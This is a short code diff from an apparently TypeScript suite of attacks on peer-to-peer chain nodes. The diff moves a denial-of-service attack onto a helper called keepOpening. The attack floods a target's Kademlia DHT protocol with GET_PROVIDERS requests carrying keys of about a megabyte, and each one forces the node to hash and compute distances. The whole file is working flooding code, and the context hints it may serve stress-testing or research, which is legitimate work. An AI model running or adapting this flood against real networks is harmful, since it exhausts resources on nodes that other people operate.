@@ -1,7 +1,7 @@
 /** Questions for keys of a megabyte, each of which costs a hash and a distance to everything known. */
 
 import { randomBytes } from "node:crypto";
-import { type Attack, persist } from "../attack.ts";
+import { type Attack, keepOpening, persist } from "../attack.ts";
 import { nameOf, pour } from "../peer.ts";
 import { KAD, kademlia } from "../wire.ts";
 
@@ -14,13 +14,12 @@ export const attack: Attack = {
     persist(
       context,
       async (peer) => {
-        for (;;) {
-          const stream = await peer.open(nameOf(context.target.chain, "kad"));
+        await keepOpening(context, peer, nameOf(context.target.chain, "kad"), async (stream) => {
           const length = Buffer.from([0x80, 0x80, 0x40]);
           const key = Buffer.concat([Buffer.from([1, 0x55, 0]), length, randomBytes(KEY_BYTES)]);
           context.count("messages");
           if (await pour(stream, kademlia(KAD.getProviders, key))) await stream.close();
-        }
+        });
       },
       true,
     ),
